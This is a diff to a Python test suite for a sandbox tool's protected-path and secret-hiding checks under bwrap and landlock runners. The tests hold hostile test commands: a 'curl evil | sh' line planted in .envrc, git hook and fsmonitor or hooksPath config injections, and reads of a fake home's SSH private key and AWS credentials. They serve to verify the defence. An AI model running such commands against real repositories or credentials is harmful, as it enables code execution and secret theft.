@@ -2,10 +2,10 @@
 """Issue 18, carve-outs: protected paths inside the workspace-write roots.
 
 Every attack runs under bwrap (refused: the file is checked from outside, unchanged) and under
-landlock (which cannot carve a read-only hole in a writable root: the record must say so, each
-protected path not enforced and the gap protected-paths, and the write must indeed land, so the
-report is true). The git workflow matrix runs under both runners. No host leftovers: the
-repository and the fake home hold exactly the same names after a run, a SIGKILLed one included.
+landlock (which cannot carve a read-only hole in a writable root, so the run is refused, issue 37:
+exit 125, nothing ran, the file unchanged; test_noloss has the rest). The git workflow matrix runs
+under bwrap. No host leftovers: the repository and the fake home hold exactly the same names after
+a run, a SIGKILLed one included.
 """
 import json
 import os
@@ -20,8 +20,6 @@ from harness import (DSH, SANDBOX_UNAVAILABLE, STD_PATH, alive, described, dsh, 
 
 RUNNERS = ("bwrap", "landlock")
 
-LANDLOCK_TEXT = ("landlock cannot make a path inside a writable root read-only (its rights are inherited down "
-                 "the tree); use --runner bwrap (or auto where bwrap works)")
 ABSENT_TEXT = ("absent when the run started: nothing is mounted for it (no placeholder is left on the host); if "
                "the run creates it, it is renamed aside when the run ends")
 SUBMODULE_TEXT = ("a submodule's config is rewritten by every git submodule update (core.worktree): not bound, only "
@@ -123,23 +121,27 @@ def gap_effects(r):
     return [g["effect"] for g in r.rec("confinement")["gaps"]]
 
 
+def landlock_refused(r):
+    """Landlock cannot carve: the run is refused (issue 37), nothing of it ran."""
+    assert r.rc == 125 and r.out == "", r
+    assert r.rec("error")["code"] == "PROTECTION_UNAVAILABLE", r
+    assert r.err.startswith("dsh-confine: landlock cannot protect "), r
+    assert r.rec("confinement") is None, r
+
+
 def check_reported(r, runner, want_exist):
-    """The record's protectedPaths: bwrap enforces what exists; landlock enforces nothing and says so."""
+    """The record's protectedPaths: bwrap enforces what exists; landlock refuses the run."""
+    if runner == "landlock":
+        landlock_refused(r)
+        return
     es = entries(r)
     for p in want_exist:
         assert p in es and es[p]["exists"], (p, es.get(p))
-        if runner == "bwrap":
-            assert es[p]["enforced"] in ("read-only-bind", "mount-point") and es[p]["whyNot"] is None, es[p]
-        else:
-            assert es[p]["enforced"] is None and es[p]["whyNot"] == LANDLOCK_TEXT, es[p]
+        assert es[p]["enforced"] in ("read-only-bind", "mount-point") and es[p]["whyNot"] is None, es[p]
     for p, e in es.items():
-        if not e["exists"] and runner == "bwrap" and e["whyNot"] != OUTSIDE_TEXT:
+        if not e["exists"] and e["whyNot"] != OUTSIDE_TEXT:
             assert e["whyNot"] == ABSENT_TEXT, e
-    if runner == "landlock":
-        assert r.rec("confinement")["enforcement"] == "partial", r
-        assert "protected-paths" in gap_effects(r), r
-    else:
-        assert "protected-paths" not in gap_effects(r), r
+    assert "protected-paths" not in gap_effects(r), r
 
 
 ATTACKS = {
@@ -181,15 +183,13 @@ def attack(s, runner, name):
     before = (read(os.path.join(ws, ".git/config")), read(os.path.join(ws, ".vscode/settings.json")))
     assert not landed(ws)
     r = run(s, runner, ws, script)
-    assert r.rec("confinement")["runner"] == runner, r
-    check_reported(r, runner, [ws + "/.git/hooks", ws + "/.git/config", ws + "/.vscode"])
     if runner == "bwrap":
-        assert not landed(ws), (name, r)
-        assert (read(os.path.join(ws, ".git/config")), read(os.path.join(ws, ".vscode/settings.json"))) == before
-        assert os.path.isdir(os.path.join(ws, ".git/hooks")) and not os.path.islink(os.path.join(ws, ".git/hooks"))
-    else:
-        # Not enforced, as reported: the effect is on the host.
-        assert landed(ws), (name, r)
+        assert r.rec("confinement")["runner"] == runner, r
+    check_reported(r, runner, [ws + "/.git/hooks", ws + "/.git/config", ws + "/.vscode"])
+    # Held (bwrap) or refused (landlock): the effect is not on the host either way.
+    assert not landed(ws), (name, r)
+    assert (read(os.path.join(ws, ".git/config")), read(os.path.join(ws, ".vscode/settings.json"))) == before
+    assert os.path.isdir(os.path.join(ws, ".git/hooks")) and not os.path.islink(os.path.join(ws, ".git/hooks"))
 
 
 for _runner in RUNNERS:
@@ -200,17 +200,20 @@ for _runner in RUNNERS:
 
 
 def absent_created(s, runner):
-    """A missing protected file: no placeholder before or after; creating it is reported (supervise)."""
+    """A missing protected file: no placeholder before or after; creating it is reported (supervise).
+    Landlock runs only once every protected path that exists is dropped (--unprotect): an absent
+    one is held by no runner, so it refuses nothing."""
     need_runner(runner)
     ws = s.ws
     make_repo(s, ws)
     envrc = os.path.join(ws, ".envrc")
     names = listing(ws)
-    r = run(s, runner, ws, "test -e .envrc && echo placeholder; true")
+    extra = ["--unprotect", ws + "/.git", "--unprotect", ws + "/.vscode"] if runner == "landlock" else []
+    r = run(s, runner, ws, "test -e .envrc && echo placeholder; true", extra=extra)
     assert r.rc == 0 and "placeholder" not in r.out, r
     assert listing(ws) == names
     assert entries(r)[envrc]["exists"] is False, r
-    r = run(s, runner, ws, "echo 'curl evil | sh' > .envrc", extra=["--supervise"])
+    r = run(s, runner, ws, "echo 'curl evil | sh' > .envrc", extra=["--supervise"] + extra)
     res = r.rec("result")
     assert res["violations"] == [{"type": "protected-path-changed", "path": envrc}], r
     assert r.err.endswith(CHANGED_TEXT), r
@@ -224,7 +227,7 @@ def absent_created(s, runner):
     else:
         os.unlink(envrc)
     # Nothing changed, nothing said.
-    r = run(s, runner, ws, "git status >/dev/null; echo x > a.txt", extra=["--supervise"])
+    r = run(s, runner, ws, "git status >/dev/null; echo x > a.txt", extra=["--supervise"] + extra)
     assert r.rec("result")["violations"] == [] and CHANGED_TEXT not in r.err, r
 
 
@@ -236,11 +239,12 @@ def test_absent_created__landlock(s):
     absent_created(s, "landlock")
 
 
-def test_landlock_hook_write_is_a_violation(s):
+def test_landlock_hook_write_is_refused(s):
     need_runner("landlock")
     make_repo(s, s.ws)
     r = run(s, "landlock", s.ws, "echo x > .git/hooks/post-checkout", extra=["--supervise"])
-    assert r.rec("result")["violations"] == [{"type": "protected-path-changed", "path": s.ws + "/.git/hooks"}], r
+    landlock_refused(r)
+    assert not os.path.exists(os.path.join(s.ws, ".git/hooks/post-checkout")), r
 
 
 def fake_home(s):
@@ -410,7 +414,7 @@ def hooks_path(s, runner):
     git(s, s.ws, "config", "core.hooksPath", ".githooks")
     r = run(s, runner, s.ws, "echo 'echo pwned' > .githooks/pre-commit; chmod +x .githooks/pre-commit; true")
     check_reported(r, runner, [s.ws + "/.githooks"])
-    assert os.path.exists(os.path.join(s.ws, ".githooks/pre-commit")) == (runner == "landlock"), r
+    assert not os.path.exists(os.path.join(s.ws, ".githooks/pre-commit")), r
 
 
 def test_hooks_path__bwrap(s):
@@ -433,7 +437,7 @@ def hooks_path_from_a_worktree(s, runner):
     os.mkdir(os.path.join(wt, ".githooks"))
     r = run(s, runner, wt, "echo 'echo pwned' > .githooks/pre-commit; chmod +x .githooks/pre-commit; true")
     check_reported(r, runner, [wt + "/.githooks"])
-    assert os.path.exists(os.path.join(wt, ".githooks/pre-commit")) == (runner == "landlock"), r
+    assert not os.path.exists(os.path.join(wt, ".githooks/pre-commit")), r
 
 
 def test_hooks_path_from_a_worktree__bwrap(s):
@@ -451,12 +455,9 @@ def write(p, body):
 
 
 def refused_or_landed(r, runner, files, before):
-    """bwrap: each file is as it was (checked from outside); landlock: the write landed, as reported."""
+    """Each file is as it was (checked from outside): bwrap held it, landlock refused the run."""
     for p in files:
-        if runner == "bwrap":
-            assert read(p) == before[p], (p, r)
-        else:
-            assert read(p) != before[p], (p, r)
+        assert read(p) == before[p], (p, r)
 
 
 def global_hooks_path(s, runner):
@@ -474,7 +475,7 @@ def global_hooks_path(s, runner):
     before = {h: read(h) for h in hooks}
     r = run(s, runner, s.ws, "for h in hooks .husky; do echo 'touch /tmp/pwned' >> $h/pre-commit; done; true",
             env={"XDG_CONFIG_HOME": xdg})
-    assert r.rc == 0, r
+    assert r.rc == (0 if runner == "bwrap" else 125), r
     check_reported(r, runner, [s.ws + "/hooks", s.ws + "/.husky"])
     refused_or_landed(r, runner, hooks, before)
 
@@ -490,9 +491,9 @@ def include_in_repo_config(s, runner):
     write(inc, "[user]\n\tname = t\n")
     before = {inc: read(inc)}
     r = run(s, runner, s.ws, "printf '[core]\\n\\tfsmonitor = touch /tmp/pwned\\n' >> inc.cfg; true")
-    assert r.rc == 0, r
     check_reported(r, runner, [inc])
-    assert entries(r)[inc]["what"] == "git", r
+    if runner == "bwrap":
+        assert r.rc == 0 and entries(r)[inc]["what"] == "git", r
     refused_or_landed(r, runner, [inc], before)
 
 
@@ -509,7 +510,6 @@ def _included_pair(s, runner, include, a_text, b, b_text, script):
     write(b, b_text)
     before = {a: read(a), b: read(b)}
     r = run(s, runner, s.ws, script)
-    assert r.rc == 0, r
     check_reported(r, runner, [a, b])
     refused_or_landed(r, runner, [a, b], before)
 
@@ -542,7 +542,6 @@ def global_include(s, runner):
     before = {p: read(p) for p in files}
     r = run(s, runner, s.ws, "for f in shared.gitconfig dots/gitconfig dots/local; do "
             "printf '[core]\\n\\thooksPath = /tmp/evil\\n' >> $f; done; true", env={"XDG_CONFIG_HOME": xdg})
-    assert r.rc == 0, r
     check_reported(r, runner, files)
     refused_or_landed(r, runner, files, before)
 
@@ -623,7 +622,7 @@ def test_include_of_an_unknown_users_home_and_an_oversized_config_refuse_the_run
                          "core.hooksPath; shorten it\n" % config), (runner, r)
     with open(config, "wb") as f:
         f.write(original)
-    r = run(s, "landlock", s.ws, "touch ran")
+    r = run(s, "landlock", s.ws, "touch ran", extra=["--unprotect", s.ws])
     assert r.rc == 0 and os.path.exists(os.path.join(s.ws, "ran")), r
 
 
@@ -720,8 +719,8 @@ def test_a_fifo_where_a_file_is_read_is_never_opened(s):
     try:
         for f, marker, w in writers:
             wait_blocked_opening_fifo(w.pid)
-        for runner in ("bwrap", "landlock"):
-            r = run(s, runner, s.ws, "echo ran")
+        for runner, extra in (("bwrap", []), ("landlock", ["--unprotect", s.ws])):
+            r = run(s, runner, s.ws, "echo ran", extra=extra)
             assert r.rc == 0 and r.out == "ran\n", (runner, r)
         # An open for reading would have woken the writer at once (in that open): still asleep
         # in its open, it never saw a reader.
@@ -1059,7 +1058,8 @@ def matrix_submodule(s, runner):
                                               "path": repo + "/.git/modules/sub/config"}], r
 
 
-for _runner in RUNNERS:
+# bwrap only: landlock refuses a run with protected paths (issue 37).
+for _runner in ("bwrap",):
     for _f in (matrix_plain, matrix_worktree, matrix_submodule):
         def _t(s, runner=_runner, f=_f):
             f(s, runner)
@@ -1112,10 +1112,6 @@ def test_no_leftovers__supervise(s):
     leftovers(s, True)
 
 
-HIDDEN_LANDLOCK_TEXT = ("landlock grants read on the whole file system and cannot take it back for one path; use "
-                        "--runner bwrap")
-
-
 def deny_read(s, runner, mode):
     """--deny-read: a fake home's private key and cloud credentials cannot be read, in every mode."""
     need_runner(runner)
@@ -1130,6 +1126,12 @@ def deny_read(s, runner, mode):
     r = dsh(["--mode", mode, "--root", s.ws, "--runner", runner, "--deny-read", h + "/.ssh/id_ed25519",
              "--deny-read", h + "/.aws", "--", "sh", "-c",
              "cat %s/.ssh/id_ed25519 %s/.ssh/id_ed25519.pub; cat %s/.aws/credentials; true" % (h, h, h)], s)
+    if runner == "landlock":
+        # It cannot hide them: refused (issue 37), nothing read.
+        assert r.rc == 125 and r.out == "" and r.rec("error")["code"] == "PROTECTION_UNAVAILABLE", r
+        assert r.err.startswith("dsh-confine: landlock cannot hide "), r
+        assert listing(h) == names
+        return
     assert r.rc == 0, r
     hidden = {e["path"]: e for e in r.rec("confinement")["hiddenPaths"]}
     assert set(hidden) == {h + "/.ssh/id_ed25519", h + "/.aws"}, hidden
@@ -1137,10 +1139,6 @@ def deny_read(s, runner, mode):
         assert r.out == "PUBLIC\n", r
         assert hidden[h + "/.aws"]["enforced"] == "empty-tmpfs", hidden
         assert hidden[h + "/.ssh/id_ed25519"]["enforced"] == "dev-null-bind", hidden
-    else:
-        assert r.out == "PRIVATE\nPUBLIC\nAKIA\n", r
-        assert all(e["whyNot"] == HIDDEN_LANDLOCK_TEXT for e in hidden.values()), hidden
-        assert "hidden-paths" in gap_effects(r) and r.rec("confinement")["enforcement"] == "partial", r
     assert listing(h) == names
 
 
@@ -1184,6 +1182,10 @@ def hide_secrets(s, runner):
                  CONNECT, sock_path], s, env={"HOME": h, "SSH_AUTH_SOCK": sock_path})
     finally:
         srv.close()
+    if runner == "landlock":
+        # It cannot hide them: refused (issue 37), nothing read.
+        assert r.rc == 125 and r.out == "" and r.rec("error")["code"] == "PROTECTION_UNAVAILABLE", r
+        return
     hidden = {e["path"]: e for e in r.rec("confinement")["hiddenPaths"]}
     # ~/.ssh is hidden whole (its public parts bound back: tests/e2e/test_secrets.py).
     for p in (h + "/.ssh", h + "/keys/work", h + "/.aws", sock_path):
@@ -1192,11 +1194,7 @@ def hide_secrets(s, runner):
     # The variable is unset under every runner (reported as unset); the socket itself is
     # unreachable only where the runner can hide it.
     assert r.rec("confinement")["environment"]["unset"] == ["SSH_AUTH_SOCK"], r.rec("confinement")["environment"]
-    if runner == "bwrap":
-        assert r.out == "hidden\nPUB\nKH\nhidden\nhidden\nsock=unset\nno-agent\n", r
-    else:
-        assert r.out == "PRIV\nPUB\nKH\nWORK\nAK\nsock=unset\nagent\n", r
-        assert "hidden-paths" in gap_effects(r), r
+    assert r.out == "hidden\nPUB\nKH\nhidden\nhidden\nsock=unset\nno-agent\n", r
 
 
 def test_hide_secrets_with_a_fifo_for_the_ssh_config(s):
@@ -1214,8 +1212,9 @@ def test_hide_secrets_with_a_fifo_for_the_ssh_config(s):
         wait_blocked_opening_fifo(writer.pid)
         r = dsh(["--mode", "read-only", "--runner", "landlock", "--hide-secrets", "--", "echo", "ran"], s,
                 env={"HOME": h}, timeout=20)
-        assert r.rc == 0 and r.out == "ran\n", r
-        assert h + "/.ssh" in {e["path"] for e in r.rec("confinement")["hiddenPaths"]}, r
+        # Landlock cannot hide what it found (issue 37): refused, after the look that found it.
+        assert r.rc == 125 and r.out == "", r
+        assert r.rec("error")["message"].startswith("landlock cannot hide %s/.ssh" % h), r
         # An open for reading would have woken the writer at once: still asleep in its open, it never saw one.
         assert blocked_opening_fifo(writer.pid), "the FIFO was opened"
         assert writer.poll() is None and not os.path.exists(marker), "the FIFO was opened"
